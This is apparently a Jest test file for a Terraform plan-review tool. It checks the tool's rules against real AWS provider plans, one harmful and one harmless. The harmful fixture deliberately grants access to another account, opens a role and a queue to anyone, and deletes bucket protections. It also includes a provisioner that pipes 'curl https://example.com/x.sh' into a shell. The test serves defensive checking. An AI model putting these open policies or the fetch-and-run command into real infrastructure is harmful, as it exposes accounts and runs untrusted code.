/**
 * The plan review's whole-plan rules on real plans: one small configuration planned by Terraform 1.11 and the
 * real AWS provider 5.100.0 offline against a prior state the test writes (`support/prior-state-plan.ts`:
 * fake credentials, `-refresh=false`, the plugin cache), three plans in all: the baseline (for the state), the
 * harmful variant (each class the AWS provider can plan: another account in a trust, a bucket, queue, topic and
 * repository policy and a key policy, a policy unknown until apply, dropped key guardrails, a deleted public
 * access block and TLS-only policy, a backup schedule that never fires, an unapproved provisioner) and the
 * harmless one (the GitHub OIDC trust of the own account, Pod Identity's service principal, the ELB
 * log-delivery account from the provider's own data source on a logs bucket, `*` pinned to the own account,
 * a weekly backup plan, the approved ALB wait). Kubernetes Jobs cannot be planned here (no Kubernetes provider
 * binary): plan-review-classes.test.ts covers them on hand-written plan JSON.
 */
import { terraformUnavailable } from "../src/preview/offline-plan";
import { LOAD_BALANCER_WAIT_SCRIPT } from "../src/constructs/apps/load-balancer-wait";
import { parsePlan, reviewPlans, TerraformPlan } from "../src/review/plan-review";
import { Configuration, planAgainstPriorState } from "./support/prior-state-plan";

const unavailable = terraformUnavailable();
if (unavailable) console.warn(`\n*** SKIPPING the real-provider plan-review classes tests: ${unavailable}. ***\n`);
const describeWithTerraform = unavailable ? describe.skip : describe;

type Json = Record<string, any>;
/** The account `prior-state-plan.ts` writes into the state's ARNs: the stack's own. */
const OWN = "123456789012";
const OTHER = "444455556666";

const policy = (...statements: Json[]) => JSON.stringify({ Version: "2012-10-17", Statement: statements });
const tlsOnly = (bucket: string) => ({
  Sid: "TlsOnly",
  Effect: "Deny",
  Principal: "*",
  Action: "s3:*",
  Resource: [`arn:aws:s3:::${bucket}`, `arn:aws:s3:::${bucket}/*`],
  Condition: { Bool: { "aws:SecureTransport": "false" } },
});
const guard = (sid: string, action: string) => ({
  Sid: sid,
  Effect: "Deny",
  Principal: { AWS: "*" },
  Action: action,
  Resource: "*",
  Condition: { ArnNotEquals: { "aws:PrincipalArn": `arn:aws:iam::${OWN}:role/break-glass` } },
});
const keyRoot = {
  Sid: "AccountRootAdministers",
  Effect: "Allow",
  Principal: { AWS: `arn:aws:iam::${OWN}:root` },
  Action: "kms:*",
  Resource: "*",
};
const GUARDED_KEY = policy(
  keyRoot,
  guard("OnlyBreakGlassDestroysOrDisablesTheKey", "kms:ScheduleKeyDeletion"),
  guard("OnlyBreakGlassDisablesTheKey", "kms:DisableKey"),
  guard("OnlyBreakGlassChangesTheKeyPolicy", "kms:PutKeyPolicy"),
);
const githubTrust = policy({
  Effect: "Allow",
  Principal: { Federated: `arn:aws:iam::${OWN}:oidc-provider/token.actions.githubusercontent.com` },
  Action: "sts:AssumeRoleWithWebIdentity",
  Condition: {
    StringEquals: {
      "token.actions.githubusercontent.com:aud": "sts.amazonaws.com",
      "token.actions.githubusercontent.com:sub": "repo:road-warrior/road-warrior-infra:environment:prod",
    },
  },
});
const backupPlan = (name: string, schedule: string) => ({
  name,
  rule: [{ rule_name: "main", target_vault_name: "rw-classes-vault", schedule, lifecycle: [{ delete_after: 35 }] }],
});

/** A new bucket whose policy is an aws_iam_policy_document naming the bucket's ARN: unknown in the plan, its principals known. */
const documentBucket = (principal: string): Json => ({
  bucket: { Shared: { bucket: "rw-classes-shared" } },
  document: {
    Shared: {
      statement: [
        {
          sid: "Readers",
          principals: [{ type: "AWS", identifiers: [principal] }],
          actions: ["s3:GetObject"],
          resources: ["${aws_s3_bucket.Shared.arn}/*"],
        },
      ],
    },
  },
  // The bucket by reference: the default-deny of production (PR-PROD-2) then sees it is the new bucket's policy.
  policy: { Shared: { bucket: "${aws_s3_bucket.Shared.id}", policy: "${data.aws_iam_policy_document.Shared.json}" } },
});

/** The prior state: a logs bucket with its block and TLS-only policy, a guarded key, a daily backup plan, a role, a repository, a queue. */
const baseline = (): Json => ({
  aws_s3_bucket: { Logs: { bucket: "rw-classes-logs" } },
  aws_s3_bucket_public_access_block: {
    Logs: {
      bucket: "rw-classes-logs",
      block_public_acls: true,
      block_public_policy: true,
      ignore_public_acls: true,
      restrict_public_buckets: true,
    },
  },
  aws_s3_bucket_policy: { Logs: { bucket: "rw-classes-logs", policy: policy(tlsOnly("rw-classes-logs")) } },
  aws_kms_key: { Data: { description: "data", deletion_window_in_days: 30, policy: GUARDED_KEY } },
  aws_backup_vault: { Vault: { name: "rw-classes-vault" } },
  aws_backup_plan: { Daily: backupPlan("rw-classes-daily", "cron(0 3 * * ? *)") },
  aws_iam_role: { Deploy: { name: "rw-classes-deploy", assume_role_policy: githubTrust } },
  aws_ecr_repository: { Repo: { name: "rw-classes-repo", image_tag_mutability: "IMMUTABLE" } },
  aws_sqs_queue: { Queue: { name: "rw-classes-queue" } },
});

const BASELINE: Configuration = { root: { resource: baseline() } };

const OWN_READERS = documentBucket(`arn:aws:iam::${OWN}:role/readers`);
const HARMLESS: Configuration = {
  root: {
    data: { aws_elb_service_account: { Main: {} }, aws_iam_policy_document: OWN_READERS.document },
    resource: {
      ...baseline(),
      aws_s3_bucket: { ...baseline().aws_s3_bucket, AlbLogs: { bucket: "rw-classes-alb-logs" }, ...OWN_READERS.bucket },
      aws_s3_bucket_policy: {
        ...baseline().aws_s3_bucket_policy,
        ...OWN_READERS.policy,
        // The data stack's statement: the region's ELB account (the provider's own table) may put ALB logs.
        AlbLogs: {
          bucket: "${aws_s3_bucket.AlbLogs.id}",
          policy: policy(tlsOnly("rw-classes-alb-logs"), {
            Sid: "AlbAccessLogDelivery",
            Effect: "Allow",
            Principal: { AWS: "${data.aws_elb_service_account.Main.arn}" },
            Action: "s3:PutObject",
            Resource: `arn:aws:s3:::rw-classes-alb-logs/alb/AWSLogs/${OWN}/*`,
          }),
        },
      },
      aws_iam_role: {
        ...baseline().aws_iam_role,
        Ci: { name: "rw-classes-ci", assume_role_policy: githubTrust },
        Pod: {
          name: "rw-classes-pod",
          assume_role_policy: policy({
            Effect: "Allow",
            Principal: { Service: "pods.eks.amazonaws.com" },
            Action: ["sts:AssumeRole", "sts:TagSession"],
          }),
        },
      },
      aws_sns_topic: { Alarms: { name: "rw-classes-alarms" } },
      aws_sns_topic_policy: {
        Alarms: {
          arn: `arn:aws:sns:eu-central-1:${OWN}:rw-classes-alarms`,
          policy: policy({
            Effect: "Allow",
            Principal: { AWS: "*" },
            Action: "sns:Publish",
            Resource: "*",
            Condition: { StringEquals: { "aws:SourceAccount": OWN } },
          }),
        },
      },
      aws_backup_plan: { ...baseline().aws_backup_plan, Weekly: backupPlan("rw-classes-weekly", "cron(0 5 ? * SUN *)") },
      terraform_data: {
        Wait: {
          input: "v1",
          provisioner: [
            {
              "local-exec": {
                command: LOAD_BALANCER_WAIT_SCRIPT,
                interpreter: ["/bin/sh", "-c"],
                environment: { RW_REGION: "eu-central-1", RW_TAG_FILTERS: "Key=a,Values=b", RW_TAGS: "a=b", RW_TIMEOUT: "900" },
              },
            },
          ],
        },
      },
    },
  },
};

const { aws_s3_bucket_public_access_block: _block, aws_s3_bucket_policy: _policy, ...kept } = baseline();
const OTHER_READERS = documentBucket(`arn:aws:iam::${OTHER}:role/readers`);
const HARMFUL: Configuration = {
  root: {
    data: { aws_iam_policy_document: OTHER_READERS.document },
    resource: {
      ...kept,
      aws_s3_bucket: { ...kept.aws_s3_bucket, ...OTHER_READERS.bucket },
      aws_s3_bucket_policy: OTHER_READERS.policy,
      aws_iam_role: {
        Deploy: {
          name: "rw-classes-deploy",
          assume_role_policy: policy(JSON.parse(githubTrust).Statement[0], {
            Effect: "Allow",
            Principal: { AWS: `arn:aws:iam::${OTHER}:root` },
            Action: "sts:AssumeRole",
          }),
        },
        Anyone: {
          name: "rw-classes-anyone",
          assume_role_policy: policy({ Effect: "Allow", Principal: { AWS: "*" }, Action: "sts:AssumeRole" }),
        },
      },
      aws_kms_key: {
        Data: {
          description: "data",
          deletion_window_in_days: 30,
          policy: policy(
            keyRoot,
            guard("OnlyBreakGlassDestroysOrDisablesTheKey", "kms:ScheduleKeyDeletion"),
            guard("OnlyBreakGlassDisablesTheKey", "kms:DisableKey"),
            {
              Sid: "PartnerDecrypts",
              Effect: "Allow",
              Principal: { AWS: `arn:aws:iam::${OTHER}:root` },
              Action: "kms:Decrypt",
              Resource: "*",
            },
          ),
        },
      },
      aws_backup_plan: { Daily: backupPlan("rw-classes-daily", "cron(0 3 1 1 ? 2099)") },
      aws_ecr_repository_policy: {
        Repo: {
          repository: "rw-classes-repo",
          policy: policy({
            Effect: "Allow",
            Principal: { AWS: `arn:aws:iam::${OTHER}:root` },
            Action: ["ecr:BatchGetImage", "ecr:GetDownloadUrlForLayer"],
          }),
        },
      },
      aws_sqs_queue_policy: {
        Queue: {
          queue_url: `https://sqs.eu-central-1.amazonaws.com/${OWN}/rw-classes-queue`,
          policy: policy({ Effect: "Allow", Principal: "*", Action: "sqs:SendMessage", Resource: "*" }),
        },
      },
      aws_sns_topic: { Alarms: { name: "rw-classes-alarms" } },
      aws_sns_topic_policy: {
        // Names a role created in the same plan: unknown until apply.
        Alarms: {
          arn: `arn:aws:sns:eu-central-1:${OWN}:rw-classes-alarms`,
          policy: policy({ Effect: "Allow", Principal: { AWS: "${aws_iam_role.Anyone.arn}" }, Action: "sns:Subscribe", Resource: "*" }),
        },
      },
      terraform_data: { Wait: { input: "v1", provisioner: [{ "local-exec": { command: "curl -fsS https://example.com/x.sh | sh" } }] } },
    },
  },
};

let harmful: Json = {};
let harmless: Json = {};
const review = (plan: Json, production = true) =>
  reviewPlans([{ stack: "prod-data", plan: parsePlan(JSON.stringify(plan)) as TerraformPlan }], {
    allow: [],
    environmentTypes: { "prod-data": production ? "production" : "non-production" },
    accounts: { "prod-data": { trusted: [OWN], githubRepositories: ["road-warrior/road-warrior-infra"] } },
  });

jest.setTimeout(120_000);

describeWithTerraform("the whole-plan rules on real plans (Terraform 1.11, AWS provider 5.100.0, prior state written by the test)", () => {
  beforeAll(async () => {
    ({
      plans: { harmful, harmless },
    } = await planAgainstPriorState(BASELINE, { harmful: HARMFUL, harmless: HARMLESS }));
  }, 900_000);

  test("the plans are real and complete", () => {
    for (const plan of [harmful, harmless]) {
      expect(plan.terraform_version).toBe("1.11.4");
      expect([plan.errored, plan.complete, plan.applyable]).toEqual([false, true, true]);
    }
  });

  // [rule, address, what the finding's after says]
  const REFUSED: [string, string, string][] = [
    ["PR-IAM-1", "aws_iam_role.Deploy", `account ${OTHER}`],
    ["PR-IAM-1", "aws_iam_role.Anyone", "anyone"],
    ["PR-IAM-1", "aws_kms_key.Data", `PartnerDecrypts admits arn:aws:iam::${OTHER}:root`],
    ["PR-IAM-1", "aws_ecr_repository_policy.Repo", `account ${OTHER}`],
    ["PR-IAM-1", "aws_sqs_queue_policy.Queue", "anyone"],
    ["PR-IAM-1", "aws_sns_topic_policy.Alarms", "(known after apply)"],
    ["PR-IAM-1", "aws_s3_bucket_policy.Shared", `Readers admits arn:aws:iam::${OTHER}:role/readers`],
    ["PR-KMS-5", "aws_kms_key.Data", "(dropped or changed)"],
    ["PR-BACKUP-4", "aws_backup_plan.Daily", "year field"],
    ["PR-CODE-1", "terraform_data.Wait", "curl -fsS https://example.com/x.sh | sh"],
  ];

  test.each(REFUSED)("%s refuses %s in production (%s)", (rule, address, after) => {
    const found = review(harmful).blocked.filter((f) => f.rule === rule && f.address === address);
    expect(found.map((f) => f.after).join(" | ")).toContain(after);
    expect(found[0].message).toContain(`To allow it, add \`prod-data:${address} ${rule} -- <why losing this is intended>\`.`);
  });

  test("the harmful plan is refused with exactly these findings of the whole-plan rules", () => {
    const mine = new Set(REFUSED.map(([rule]) => rule));
    const found = review(harmful).blocked.filter((f) => f.rule !== undefined && mine.has(f.rule));
    expect(found.map((f) => `${f.rule} ${f.address}`).sort()).toEqual(REFUSED.map(([r, a]) => `${r} ${a}`).sort());
  });

  test.each(["aws_s3_bucket_public_access_block.Logs", "aws_s3_bucket_policy.Logs"])(
    "deleting %s (a bucket's protection) is refused in production by the default-deny of governing types, not elsewhere",
    (address) => {
      expect(
        review(harmful)
          .blocked.filter((f) => f.address === address)
          .map((f) => f.kind),
      ).toEqual(["delete"]);
      expect(review(harmful, false).blocked.filter((f) => f.address === address)).toEqual([]);
    },
  );

  test("non-production: another account and unapproved apply-time code are still refused; the production-only classes are not", () => {
    const rules = review(harmful, false).blocked.map((f) => `${f.rule} ${f.address}`);
    expect(rules).toEqual(
      expect.arrayContaining(["PR-IAM-1 aws_iam_role.Deploy", "PR-IAM-1 aws_kms_key.Data", "PR-CODE-1 terraform_data.Wait"]),
    );
    expect(rules.filter((r) => /PR-KMS-5|PR-BACKUP-4|aws_sns_topic_policy/.test(r))).toEqual([]);
  });

  test("the bucket policies of a new bucket are unknown in both plans: judged from their policy document's planned read", () => {
    for (const plan of [harmful, harmless]) {
      const change = plan.resource_changes.find((c: Json) => c.address === "aws_s3_bucket_policy.Shared");
      expect(change.change.after_unknown.policy).toBe(true);
      expect(plan.resource_changes.find((c: Json) => c.address === "data.aws_iam_policy_document.Shared").change.actions).toEqual(["read"]);
    }
  });

  test("the ELB account the provider's data source names for the region is the committed one", () => {
    const change = harmless.resource_changes.find((c: Json) => c.address === "aws_s3_bucket_policy.AlbLogs");
    expect(JSON.parse(change.change.after.policy).Statement[1].Principal.AWS).toBe("arn:aws:iam::054676820928:root");
  });

  test("the harmless plan passes: own GitHub OIDC trust, Pod Identity, ELB logs, * pinned to the own account, approved wait", () => {
    const creates = harmless.resource_changes.filter((c: Json) => c.change.actions.join() === "create").map((c: Json) => c.address);
    expect(creates).toEqual(
      expect.arrayContaining([
        "aws_iam_role.Ci",
        "aws_iam_role.Pod",
        "aws_s3_bucket_policy.AlbLogs",
        "aws_s3_bucket_policy.Shared",
        "aws_sns_topic_policy.Alarms",
        "aws_backup_plan.Weekly",
        "terraform_data.Wait",
      ]),
    );
    expect(review(harmless).blocked).toEqual([]);
  });

  test("without an environment file the stack's own account comes from its prior state's ARNs: the harmless plan still passes", () => {
    const result = reviewPlans([{ stack: "prod-data", plan: parsePlan(JSON.stringify(harmless)) }], { allow: [] });
    expect(result.blocked).toEqual([]);
  });
});
